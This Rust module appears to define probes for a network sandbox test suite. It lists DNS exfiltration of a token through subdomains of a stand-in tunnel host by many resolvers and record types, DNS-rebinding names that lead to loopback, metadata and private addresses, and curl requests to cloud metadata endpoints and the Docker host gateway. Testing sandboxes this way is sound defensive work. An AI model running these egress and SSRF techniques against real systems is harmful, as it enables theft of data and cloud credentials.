//! Names as letters, and answers that lead elsewhere.

use crate::internet::programs::Program::{Curl, Dig, Go, Node, Own};
use crate::internet::trick::Proof::{Arrives, Names, Secret};
use crate::internet::trick::{Trick, tricks};

pub(super) fn tricks() -> Vec<Trick> {
    tricks! {
        // 4: a question carries data out.
        4 "question by the system's resolver" Own ["dns.system", "{token}.tunnel.example"] Arrives;
        4 "question by c-ares" Node ["resolve", "A", "{token}.tunnel.example"] Arrives;
        4 "question by Go's resolver" Go ["http://{token}.tunnel.example/"] Arrives;
        4 "question by curl" Curl ["http://{token}.tunnel.example/"] Arrives;
        4 "question to the resolver itself" Own ["dns.udp", "93.184.216.53", "A", "{token}.tunnel.example"] Arrives;
        4 "question to another resolver" Dig ["@93.184.216.54", "{token}.tunnel.example"] Arrives;
        4 "question to another resolver by IPv6" Own ["dns.udp", "2606:2800:220::54", "A", "{token}.tunnel.example"] Arrives;
        4 "question by a stream" Dig ["+tcp", "@93.184.216.53", "{token}.tunnel.example"] Arrives;
        4 "second question on a stream" Own ["dns.pipelined", "93.184.216.53", "A", "api.shop.example", "{token}.tunnel.example"] Arrives;
        4 "two questions in one message" Own ["dns.two", "93.184.216.53", "A", "api.shop.example", "{token}.tunnel.example"] Arrives;
        4 "second question of a connected socket" Own ["dns.many", "93.184.216.53", "A", "api.shop.example,{token}.tunnel.example"] Arrives;
        4 "answer in a text record" Dig ["@93.184.216.53", "{token}.tunnel.example", "TXT"] Secret("tunnel");
        4 "text record of an allowed name" Dig ["api.shop.example", "TXT"] Secret("text");
        4 "question for a reversed address" Dig ["{token}.66.216.184.93.in-addr.arpa", "PTR"] Arrives;
        4 "name behind an allowed one" Dig ["{token}.api.shop.example"] Arrives;
        4 "service of a forbidden name" Dig ["_{token}._tcp.tunnel.example", "SRV"] Arrives;
        4 "question over TLS (853)" Own ["dns.over_tls", "93.184.216.55", "dns.provider.example", "A", "{token}.tunnel.example"] Arrives;
        4 "question over HTTPS" Curl ["--doh-url", "https://93.184.216.55/dns-query", "--doh-insecure", "http://{token}.tunnel.example/"] Arrives;
        4 "question over HTTPS, by a name" Dig ["+https", "@93.184.216.55", "{token}.tunnel.example"] Arrives;
        4 "datagram to port 53 that is no question" Own ["datagrams.sendto", "93.184.216.66", "53", "{token}"] Arrives;
        4 "stream to port 53 that is no question" Own ["streams.connect", "93.184.216.66", "53", "{token}"] Arrives;
        4 "tunnel beneath an allowed wildcard" Own ["dns.tunnel", "cdn.example", "120", "{token}"] Names(100), alone();
        4 "tunnel of plain words beneath an allowed wildcard" Own ["dns.words", "cdn.example", "500", "{token}"] Names(400), alone();
        // 5: an allowed name that leads inwards.
        5 "allowed name of loopback" Own ["dns.follow", "loopback.rebind.example", "80", "GET /{token} HTTP/1.0\r\n\r\n"] Secret("loopback");
        5 "allowed name of loopback" Curl ["http://loopback.rebind.example/{token}"] Secret("loopback");
        5 "allowed name of a metadata service" Own ["dns.follow", "metadata.rebind.example", "80", "GET /{token} HTTP/1.0\r\n\r\n"] Secret("metadata");
        5 "allowed name of a metadata service" Node ["get", "http://metadata.rebind.example/{token}"] Secret("metadata");
        5 "allowed name of a private address" Own ["dns.follow", "private.rebind.example", "80", "GET /{token} HTTP/1.0\r\n\r\n"] Secret("private");
        5 "allowed name of a private address in IPv6 form" Own ["dns.follow", "mapped.rebind.example", "80", "GET /{token} HTTP/1.0\r\n\r\n"] Secret("private");
        5 "allowed name, private behind an alias" Own ["dns.follow", "chained.rebind.example", "80", "GET /{token} HTTP/1.0\r\n\r\n"] Secret("private");
        5 "loopback among public addresses" Own ["dns.follow", "mixed.rebind.example", "80", "GET /{token} HTTP/1.0\r\n\r\n"] Secret("loopback");
        5 "address that an HTTPS record hints at" Own ["dns.hinted", "93.184.216.53", "ech.shop.example", "{token}"] Secret("evil.example");
        5 "configuration of ECH from an HTTPS record" Own ["dns.udp", "93.184.216.53", "HTTPS", "ech.shop.example"] Secret("ech");
        // 34: the machine's own network, and the cloud's.
        34 "host gateway by its name" Curl ["http://host.docker.internal/{token}"] Secret("gateway");
        34 "host gateway by its address" Curl ["http://172.17.0.1/{token}"] Secret("gateway");
        34 "allowed name of the host gateway" Curl ["http://gateway.rebind.example/{token}"] Secret("gateway");
        34 "metadata service by its address" Curl ["http://169.254.169.254/{token}"] Secret("metadata");
        34 "metadata service by IPv6" Curl ["http://[fd00:ec2::254]/{token}"] Secret("metadata");
        34 "metadata service by its name" Curl ["http://metadata.google.internal/{token}"] Secret("metadata");
        34 "metadata service in IPv6 form" Curl ["http://[::ffff:169.254.169.254]/{token}"] Secret("metadata");
        34 "private address" Curl ["http://10.0.0.5/{token}"] Secret("private");
    }
}
